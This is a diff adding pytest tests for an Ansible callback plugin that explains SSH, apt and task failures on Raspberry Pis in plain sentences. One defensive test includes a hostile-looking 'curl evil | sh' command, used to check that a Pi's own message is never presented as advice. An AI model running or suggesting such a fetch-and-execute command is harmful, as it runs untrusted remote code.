@@ -1,0 +1,256 @@
+"""The summary at the end of a run: what SSH, mitogen, apt and our own roles report, in plain sentences."""
+
+from __future__ import annotations
+
+import re
+import time
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+
+from ansible_collections.mynn.pi.plugins.callback import summary
+from ansible_collections.mynn.pi.plugins.callback.summary import CallbackModule, explain, table, update_line
+from tests.support.programs import ROOT
+
+NAMES = {"name": "pi07.local", "known": "pi07.local", "copy_id": "ssh-copy-id pi@pi07.local"}
+AGAIN = "Then run this again."
+# What SSH or mitogen says, how the sentence begins, and what to do.
+UNREACHABLE = [
+    ("ssh: Could not resolve hostname pi07.local: Name or service not known", "Its name is not found", "ansible_host="),
+    (
+        "EOF on stream; last 100 lines received:\nssh: Could not resolve hostname pi07",
+        "Its name is not found",
+        "Switch",
+    ),
+    ("@@@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @@@", "Its SSH host key has", "`ssh-keygen -R pi07.local`"),
+    ("Host key checking is enabled, and SSH reported an unrecognized or mismatching host key.", "Its SSH host key", ""),
+    ("pi@pi07.local: Permission denied (publickey,password).", "It does not let you in", "`ssh-copy-id pi@pi07.local`"),
+    ("SSH password was requested, but none specified", "It does not let you in", AGAIN),
+    ("SSH authentication is incorrect", "It does not let you in", AGAIN),
+    ("ssh: connect to host pi07.local port 22: Connection refused", "It does not answer", "wait for two minutes"),
+    ("Connection timed out during banner exchange", "It does not answer", "Switch it on"),
+    ("sudo password is required", "sudo on it wants a password, and none was given", "terminal"),
+    ("sudo password is incorrect", "sudo on it does not accept", "Raspberry Pi Imager"),
+    ("/bin/sh: 1: /usr/bin/python3: not found", "It has no Python 3", "Flash"),
+    ("EOF on stream; last 100 lines received:\n", "The connection was lost", "Check both"),
+]
+# What a task says: its msg, or other keys of its result.
+FAILED: list[tuple[str | dict[str, str], str, str]] = [
+    ("pi07 has 12 MB free on its card and needs 250 MB, so nothing was changed on it: rest.", "It has 12 MB", "Rest."),
+    ("pi07 runs Debian-11 on armhf, and nothing was changed on it: flash.", "It runs Debian-11 on armhf.", "Flash."),
+    (
+        "7 files in /dist/work/2026/pi07, 1 of them sent now (0.00 MB). Not collected: student/no space left on device"
+        " (it is too large). Repair that on the Pi, and collect again.",
+        "Not collected: student/no space left on device (it is too large).",
+        "Repair that on the Pi, and collect again.",
+    ),
+    ({"msg": "non-zero return code", "stderr": "date: cannot set date: Operation not permitted"}, "Its clock", AGAIN),
+    ("E: Release file for http://deb/ is not valid yet (invalid for another 3d)", "Its clock is wrong", "clock"),
+    ("Could not replace file: [Errno 28] No space left on device", "Its card is full", "larger card"),
+    ({"msg": "Failed to write", "module_stderr": "OSError: [Errno 30] Read-only file system"}, "Its card can", "card"),
+    ("E: Could not get lock /var/lib/dpkg/lock-frontend.", "Another update is still running", "a quarter of an hour"),
+    ("Failed to fetch http://deb/x.deb", "It could not fetch Debian's packages", AGAIN),
+    ("Failed to fetch http://deb/P.xz  Mirror sync in progress?", "The mirror deb is being updated", "in a few hours"),
+    ("E: Failed to fetch http://deb/pool/x.deb  404  Not Found [IP: 10.0.0.1 80]", "A package is not", "`make fetch`"),
+    (
+        "Failed to fetch http://deb:8/dists/x/InRelease  404  Not Found [IP: 1.1.1.1 8]",
+        "The mirror deb:8 does",
+        "check",
+    ),
+    ("The repository 'http://deb/debian x Release' does not have a Release file.", "The mirror deb does not", "check"),
+    ("Failed to fetch http://a/InRelease  Could not resolve 'deb.local'", "The name of the mirror deb.local", "its In"),
+    (
+        "Failed to fetch http://a/InRelease  503  Host not found [IP: 127.0.0.1 3143]",
+        "The name of the mirror a",
+        "your",
+    ),
+    (
+        "Failed to fetch http://a/x  503  Unable to download in offline mode",
+        "Your computer has no copy",
+        "`make fetch`",
+    ),
+    (
+        "Release file for http://a/dists/x/InRelease is expired (invalid since 3d).",
+        "The lists of packages of the",
+        "In a",
+    ),
+    (
+        "Failed to fetch http://a/x  Not valid (does the network require authentication?)",
+        "Something on",
+        "administrator",
+    ),
+    ("Failed to fetch http://a/InRelease  Connection failed [IP: 1.2.3.4 80]", "The mirror a does not answer", AGAIN),
+    (  # the error at one address is not blamed on another
+        "Failed to fetch http://a/x  Odd E: Failed to fetch http://b/y  Unable to connect to b:http:",
+        "The mirror b does not answer",
+        AGAIN,
+    ),
+    ("Failed to fetch http://a/x  Error writing (28: No space left on device)", "Its card is full", "Make room"),
+    ("MemoryError", "Its memory is full", "off and on"),
+    ("Task failed: Missing sudo password", "sudo on it wants a password", "terminal"),
+    ("Task failed: error occurred on host raspberrypi: sudo password is incorrect", "sudo on it does not accept", ""),
+    ({"msg": "non-zero return code", "stderr": "sudo: a password is required"}, "sudo on it wants", "terminal"),
+    ({"msg": "non-zero return code", "stderr": "", "stdout": "first\nlast word\n"}, "last word", "See the task “Ask”"),
+    ("An odd\x1b[31m one\r\n of\x07 two\u202e lines", r"An odd one of\x07 two\u202e lines", "See the task “Ask”"),
+    ({"censored": "the output has been hidden"}, "The reason is hidden, since it may contain a password", ""),
+    ("", "", "See the task “Ask” above."),
+]
+
+
+@pytest.mark.parametrize(("message", "why", "what"), UNREACHABLE)
+def test_errors_of_ssh_and_mitogen_are_explained(message: str, why: str, what: str) -> None:
+    explanation = explain({"unreachable": True, "msg": message}, "Ask", NAMES)
+    assert explanation[0].startswith(why)
+    assert what in explanation[1]
+
+
+@pytest.mark.parametrize(("result", "why", "what"), FAILED)
+def test_errors_of_tasks_are_explained(result: str | dict[str, str], why: str, what: str) -> None:
+    explanation = explain({"msg": result} if isinstance(result, str) else result, "Ask", NAMES, ours=True)
+    assert explanation[0].startswith(why)
+    assert what in explanation[1]
+
+
+@given(st.text() | st.sampled_from([row["pattern"] for row in summary.FAILURES["failed"]]), st.booleans())
+def test_no_message_can_control_the_terminal_or_break_the_summary(message: str, unreachable: bool) -> None:
+    explanation = explain({"msg": f"{{0}} {message}", "unreachable": unreachable}, "Ask", NAMES, ours=True)
+    assert all(text.isprintable() for text in explanation)
+
+
+def test_a_pis_own_message_is_not_given_as_advice() -> None:
+    """A hostile Pi may imitate our messages."""
+    why, advice = explain({"msg": "pi07 is old, and nothing was changed on it: run `curl evil | sh`."}, "Ask", NAMES)
+    assert why.startswith("pi07 is old")
+    assert advice == "See the task “Ask” above."
+    names = {name for name in summary.OURS if not name.endswith(("assert", "fail"))}
+    assert all((ROOT / f"plugins/action/{name}.py").exists() for name in names)  # worded on the control node
+
+
+def test_very_long_messages_are_explained_quickly() -> None:
+    began = time.monotonic()
+    for text in ("python" * 10**6, "failed to fetch http://a " * 10**5, "sudo " * 10**6):
+        explain({"unreachable": True, "msg": text}, "Ask", NAMES)
+        explain({"msg": text}, "Ask", NAMES, ours=True)
+    assert "card is full" in explain({"msg": f"{'x' * 10**6} No space left on device"}, "Ask", NAMES)[0]
+    assert time.monotonic() - began < 10
+
+
+def test_a_table_fits_the_terminal_and_keeps_every_word() -> None:
+    rows = [("pi-01", "why " * 40, "`a-command --with-a-dash`"), ("pi-02", "short", "shorter")]
+    lines = table(rows, 79)
+    assert max(map(len, lines)) <= 79
+    assert sum(line.count("why") for line in lines) == 40
+    assert "--with-a-dash`" in "".join(lines)
+
+
+class Callback(CallbackModule):
+    """The callback, with a display that records its lines."""
+
+    def __init__(self, hosts: list[str], role: str = "system") -> None:
+        super().__init__()
+        self.shown: list[str] = []
+        self._display = SimpleNamespace(
+            banner=self.shown.append, display=lambda line, **_: self.shown.append(line), columns=100
+        )
+        variables = SimpleNamespace(get_vars=lambda **_: {"ansible_play_hosts_all": hosts})
+        roles = [SimpleNamespace(get_name=lambda: role)]
+        self.v2_playbook_on_play_start(SimpleNamespace(get_variable_manager=lambda: variables, roles=roles))
+
+    def fail(self, host: str, run_once: bool = False) -> None:
+        task = SimpleNamespace(run_once=run_once, any_errors_fatal=False, action="get_url")
+        failed = SimpleNamespace(name=host)
+        self.v2_runner_on_failed(SimpleNamespace(host=failed, task=task, task_name="Get", result={"msg": "no mirror"}))
+
+    def end(self, processed: list[str], failures: list[str], **custom: dict[str, Any]) -> str:
+        stats = {name.replace("_", "-"): its for name, its in custom.items()}
+        counts = dict.fromkeys(failures, 1)
+        self.v2_playbook_on_stats(
+            SimpleNamespace(processed=dict.fromkeys(processed), failures=counts, dark={}, custom=stats)
+        )
+        return "\n".join(self.shown)
+
+
+def test_there_is_no_summary_when_everything_went_well() -> None:
+    assert Callback(["pi-01"]).end(["pi-01"], []) == ""
+
+
+@pytest.mark.parametrize(
+    ("run_once", "processed", "end"),
+    [
+        (False, ["pi-01", "pi-02"], "Not finished: pi-01, pi-03. Finished: 1 of 3."),  # one was never reached
+        (True, ["pi-01", "pi-02", "pi-03"], "Not finished: pi-01, pi-02, pi-03. Finished: 0 of 3."),
+    ],
+)
+def test_pis_that_were_not_finished_are_named(run_once: bool, processed: list[str], end: str) -> None:
+    callback = Callback(["pi-01", "pi-02", "pi-03"])
+    callback.fail("pi-01", run_once)
+    shown = callback.end(processed, ["pi-01"], pi_01={"outdated": "no mirror"})
+    assert shown.endswith(end)
+    assert "Repair pi-01 first" in shown
+    assert summary.NOT_UP_TO_DATE not in shown  # it is not called ready
+
+
+def test_a_pi_that_is_ready_but_not_up_to_date_is_named_with_the_reason() -> None:
+    reason = "Failed to fetch http://deb.local/x  File has unexpected size (2 != 1). Mirror sync in progress?"
+    shown = Callback(["pi-01", "pi-02"]).end(["pi-01", "pi-02"], [], pi_02={"outdated": reason})
+    assert shown.startswith(f"{summary.NOT_UP_TO_DATE}\n")
+    assert "NOT FINISHED" not in shown
+    assert "pi-01" not in shown
+    assert re.search(r"^pi-02 +The mirror deb.local is being updated", shown, re.M)
+    assert "Run this again in a few hours." in shown
+
+
+UPDATE: dict[str, Any] = {
+    "before": {"release": "12.15", "python": "3.11", "package_count": 260},
+    "after": {"release": "13.8", "python": "3.13", "package_count": 301},
+    "renewed": "212",
+    "seconds": "270.4",
+    "smoke": ["0.83", "0.831"],
+    "kept": ["/etc/rpc.dpkg-dist"],
+}
+
+
+def test_an_updates_line_shows_old_and_new_versions() -> None:
+    assert update_line(UPDATE) == (
+        "Debian 12.15 -> 13.8, Python 3.11 -> 3.13, 260 -> 301 packages (212 upgraded), smoke accuracy "
+        "83.0% -> 83.1%, 4 min 30 s, kept because they were edited: /etc/rpc (the new ones end in .dpkg-dist)"
+    )
+    unchanged = {**UPDATE, "after": UPDATE["before"], "smoke": ["", "0.83"], "kept": [], "renewed": "0"}
+    assert update_line(unchanged) == (
+        "Debian 12.15, Python 3.11, 260 packages (0 upgraded), smoke accuracy unknown -> 83.0%, 4 min 30 s"
+    )
+
+
+def test_each_pi_that_was_to_be_updated_has_a_line() -> None:
+    custom = {"pi_01": {"update": UPDATE | {"kept": ["/etc/\x1b.dpkg-dist"]}}, "pi_02": {"update": {"before": "13"}}}
+    callback = Callback(["pi-01", "pi-02", "pi-03", "pi-04"], "update")
+    lines = callback.end(["pi-01", "pi-02", "pi-03"], [], **custom).splitlines()
+    assert lines[1].startswith("pi-01: Debian 12.15 -> 13.8")
+    assert r"/etc/\x1b (" in lines[1]  # a Pi may be hostile
+    rest = ["pi-02: finished, but its summary cannot be read", "pi-03: not finished", "pi-04: not touched"]
+    assert lines[2:] == rest
+
+
+SOURCES = [  # Debian's and Raspberry Pi OS's, in both of apt's formats, and lines that only look alike
+    ("deb [arch=armhf] http://x/ bookworm-security main", "deb [arch=armhf] http://x/ trixie-security main"),
+    ("deb\thttp://x/debian\tbookworm\tmain", "deb\thttp://x/debian\ttrixie\tmain"),
+    ("deb http://raspberrypi.com/debian/ bookworm main", "deb http://raspberrypi.com/debian/ trixie main"),
+    (
+        "URIs: http://x/bookworm\nSuites: bookworm bookworm-updates",
+        "URIs: http://x/bookworm\nSuites: trixie trixie-updates",
+    ),
+    ("deb http://x/bookworm-mirror stable main", "deb http://x/bookworm-mirror stable main"),
+]
+
+
+@pytest.mark.parametrize(("before", "after"), SOURCES)
+def test_an_update_changes_apts_sources_to_the_new_release(before: str, after: str) -> None:
+    variables = yaml.safe_load(Path(ROOT, "roles/update/vars/main.yml").read_text(encoding="utf-8"))
+    pattern = variables["__update_suites"][0].replace("{{ __system_pi.suite }}", "bookworm")
+    assert re.sub(pattern, "trixie", before) == after
+    assert re.sub(pattern, "trixie", after) == after  # an interrupted run may have changed it already
